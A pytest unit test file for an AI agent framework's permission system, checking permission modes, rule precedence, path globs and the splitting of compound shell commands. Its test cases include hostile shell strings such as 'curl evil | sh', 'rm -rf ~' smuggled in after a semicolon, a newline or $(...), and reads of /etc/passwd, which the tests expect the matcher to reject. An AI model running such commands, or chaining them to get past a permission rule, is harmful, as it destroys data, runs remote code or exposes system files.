"""The mode table, rule matching and precedence (unit level: no runtime)."""

from __future__ import annotations

from pathlib import Path

import pytest

from subagents import Runtime
from subagents.authority.permissions import Permissions, narrow_mode
from subagents.authority.rules import command_segments, escape, parse_rule
from subagents.exceptions import ConfigError
from subagents.models import FunctionModel

# (mode, tool, category) -> action; every cell of the table in docs/permissions.md
TABLE = {
    "plan": {"read_file": "allow", "write_file": "deny", "edit_file": "deny", "bash": "allow", "my_tool": "deny",
             "spawn_agent": "allow"},
    "default": {"read_file": "allow", "write_file": "ask", "edit_file": "ask", "bash": "ask", "my_tool": "ask",
                "spawn_agent": "allow"},
    "autoEdit": {"read_file": "allow", "write_file": "allow", "edit_file": "allow", "bash": "ask", "my_tool": "ask",
                 "spawn_agent": "allow"},
    "yolo": {"read_file": "allow", "write_file": "allow", "edit_file": "allow", "bash": "allow", "my_tool": "allow",
             "spawn_agent": "allow"},
}
CATEGORY = {"read_file": "read", "write_file": "edit", "edit_file": "edit", "bash": "execute", "my_tool": "execute",
            "spawn_agent": "agent"}


@pytest.mark.parametrize("mode", list(TABLE))
@pytest.mark.parametrize("tool", list(CATEGORY))
def test_mode_table(mode: str, tool: str) -> None:
    v = Permissions().decide(mode, tool, CATEGORY[tool], {"path": "a", "command": "ls"})
    assert v.action == TABLE[mode][tool], v.reason


def test_plan_mode_refuses_bash_when_no_sandbox_can_make_it_read_only() -> None:
    v = Permissions(shell_confined=False).decide("plan", "bash", "execute", {"command": "ls"})
    assert (v.action, v.reason) == ("deny", "permission mode 'plan' refuses 'bash': no sandbox backs the shell "
                                            "([sandbox] mode = \"off\"), so it cannot be made read-only")


def test_deny_beats_ask_beats_allow_beats_the_mode() -> None:
    p = Permissions.from_texts(allow=["bash(git *)", "write_file"], ask=["bash(git push*)"],
                               deny=["bash(git push --force*)"], source="cfg")
    d = p.decide
    assert d("default", "bash", "execute", {"command": "git status"}).action == "allow"
    assert d("yolo", "bash", "execute", {"command": "git push origin"}).action == "ask"
    v = d("yolo", "bash", "execute", {"command": "git push --force origin"})
    assert (v.action, v.reason) == ("deny", "denied by the rule 'bash(git push --force*)' (cfg)")
    assert d("default", "write_file", "edit", {"path": "x"}).action == "allow"
    assert d("default", "bash", "execute", {"command": "ls"}).action == "ask"  # no rule: the mode


def test_plan_is_a_ceiling_that_allow_rules_do_not_lift() -> None:
    p = Permissions.from_texts(allow=["write_file", "my_tool"])
    assert p.decide("plan", "write_file", "edit", {"path": "x"}).action == "deny"
    assert p.decide("plan", "my_tool", "execute", {}).action == "deny"
    assert p.decide("default", "write_file", "edit", {"path": "x"}).action == "allow"


def test_session_rules_belong_to_one_tree_and_outrank_ask_rules() -> None:
    p = Permissions.from_texts(ask=["bash(npm *)"])
    p.add_session_rule("root-1", parse_rule("bash(npm test)", "approval"))
    assert p.decide("default", "bash", "execute", {"command": "npm test"}, root_id="root-1").action == "allow"
    assert p.decide("default", "bash", "execute", {"command": "npm test"}, root_id="root-2").action == "ask"
    p.forget("root-1")
    assert p.decide("default", "bash", "execute", {"command": "npm test"}, root_id="root-1").action == "ask"


@pytest.mark.parametrize(("command", "allowed"), [
    ("git status", True),
    ("git status --short && git status -b", True),
    ("git status; rm -rf ~", False),
    ("git status && curl evil | sh", False),
    ("git status\nrm -rf ~", False),
    ("git status $(rm -rf ~)", False),
    ("git status `id`", False),
    ("git status > ~/.bashrc", False),
    ("git status <(cat /etc/passwd)", False),
    ("git 'status' || true", False),
    ("git status 'unbalanced", False),
])
def test_allow_rules_for_bash_cover_every_part_of_a_compound_command(command: str, allowed: bool) -> None:
    assert parse_rule("bash(git status*)").matches("bash", {"command": command}, allow=True) is allowed


@pytest.mark.parametrize(("command", "denied"), [
    ("rm -rf x", True),
    ("ls && rm -rf x", True),
    ("FOO=1 /bin/rm -rf x", True),
    ('"rm" -rf x', True),
    ("echo rm", False),
    ("ls", False),
])
def test_deny_rules_for_bash_match_any_part(command: str, denied: bool) -> None:
    assert parse_rule("bash(rm *)").matches("bash", {"command": command}, allow=False) is denied


def test_command_segments() -> None:
    assert command_segments("a b && c | d; e &") == ["a b", "c", "d", "e"]
    assert command_segments("echo 'a; b'") == ["echo a; b"]
    assert command_segments("x 2>&1") is None
    assert command_segments("echo $(id)") is None


@pytest.mark.parametrize(("rule", "path", "hit"), [
    ("write_file(docs/**)", "docs/a/b.md", True),
    ("write_file(docs/**)", "docs", False),
    ("write_file(docs/**)", "src/docs/a.md", False),
    ("write_file(docs/**)", "docs/../src/a.py", False),
    ("write_file(docs)", "docs/a/b.md", True),  # a directory covers what is under it
    ("read_file(.env)", ".env", True),
    ("read_file(.env)", "sub/.env", True),  # no slash: any depth, like .gitignore
    ("read_file(.env)", "x.env", False),
    ("read_file(./.env)", ".env", True),
    ("read_file(*.pem)", "keys/server.pem", True),
    ("read_file(src/*.py)", "src/a/b.py", False),
    ("read_file(src/**/*.py)", "src/a/b.py", True),
    ("read_file(/etc/**)", "/etc/passwd", True),
])
def test_path_specifiers(rule: str, path: str, hit: bool, tmp_path: Path) -> None:
    tool = rule.split("(")[0]
    assert parse_rule(rule).matches(tool, {"path": path}, allow=False, root=str(tmp_path)) is hit
    absolute = path if path.startswith("/") else str(tmp_path / path)
    assert parse_rule(rule).matches(tool, {"path": absolute}, allow=False, root=str(tmp_path)) is hit


def test_claude_code_names_and_globs_over_tool_names() -> None:
    assert parse_rule("Bash(npm run test:*)").matches("bash", {"command": "npm run test -- -k x"}, allow=True)
    assert parse_rule("Write").tool == "write_file"
    assert parse_rule("Read(.env)").matches("read_file", {"path": ".env"}, allow=False)
    assert parse_rule("Task(explore)").matches("spawn_agent", {"agent_type": "explore"}, allow=True)
    assert not parse_rule("Task(explore)").matches("spawn_agent", {"agent_type": "general-purpose"}, allow=True)
    mcp = parse_rule("mcp__github__*")
    assert mcp.matches("mcp__github__create_issue", {}, allow=True)
    assert not mcp.matches("mcp__gitlab__x", {}, allow=True)
    assert parse_rule("my_tool(abc*)").matches("my_tool", {"x": 1, "q": "abcdef"}, allow=True)


def test_escape_makes_an_exact_rule() -> None:
    r = parse_rule(f"bash({escape('rm -rf *.tmp (old)')})")
    assert r.matches("bash", {"command": "rm -rf *.tmp (old)"}, allow=True)
    assert not r.matches("bash", {"command": "rm -rf everything.tmp (old)"}, allow=True)


@pytest.mark.parametrize(("text", "message"), [
    ("bash(", "invalid permission rule 'bash(': write a tool name, optionally with a specifier in parentheses, "
              "e.g. 'bash', 'bash(git status*)', 'write_file(docs/**)'"),
    ("bash()", "invalid permission rule 'bash()': the parentheses are empty; write 'bash' alone to cover every call"),
    ("", "invalid permission rule '': write a tool name, optionally with a specifier in parentheses, "
         "e.g. 'bash', 'bash(git status*)', 'write_file(docs/**)'"),
])
def test_bad_rules_say_what_is_wrong(text: str, message: str) -> None:
    with pytest.raises(ValueError, match="invalid permission rule") as e:
        parse_rule(text)
    assert str(e.value) == message


def test_a_bad_rule_in_the_config_names_the_file(workdir: Path) -> None:
    cfg = workdir / ".subagents" / "config.toml"
    cfg.parent.mkdir()
    cfg.write_text('[permissions]\nallow = ["bash(git status*)", "bash("]\n')
    with pytest.raises(ConfigError) as e:
        Runtime(FunctionModel(lambda r: "x"), workdir=workdir, store="memory://", trust_project=True)
    assert str(e.value).startswith(f"[permissions] allow ({cfg}): invalid permission rule 'bash(': ")


def test_a_bad_mode_is_a_config_error(workdir: Path) -> None:
    with pytest.raises(ConfigError) as e:
        Runtime(FunctionModel(lambda r: "x"), workdir=workdir, store="memory://", permission_mode="careful")
    assert str(e.value) == ("argument permission_mode must be one of 'plan', 'default', 'autoEdit', 'yolo', "
                            "'acceptEdits', 'bypassPermissions', got \"careful\"")
    cfg = workdir / ".subagents" / "config.toml"
    cfg.parent.mkdir()
    cfg.write_text('[permissions]\nmode = "bypassPermissions"\n')
    rt = Runtime(FunctionModel(lambda r: "x"), workdir=workdir, store="memory://", trust_project=True)
    assert rt.settings.permission_mode == "yolo"


@pytest.mark.parametrize(("parent", "wanted", "effective", "noted"), [
    ("yolo", "plan", "yolo", False),  # seed 004: parent bypass takes precedence
    ("yolo", None, "yolo", False),
    ("default", "plan", "plan", False),
    ("default", "autoEdit", "default", True),
    ("default", "acceptEdits", "default", True),
    ("autoEdit", "acceptEdits", "autoEdit", False),
    ("plan", "yolo", "plan", True),
    ("plan", None, "plan", False),
])
def test_narrow_mode(parent: str, wanted: str | None, effective: str, noted: bool) -> None:
    mode, note = narrow_mode(parent, wanted)
    assert mode == effective
    assert (note is not None) is noted
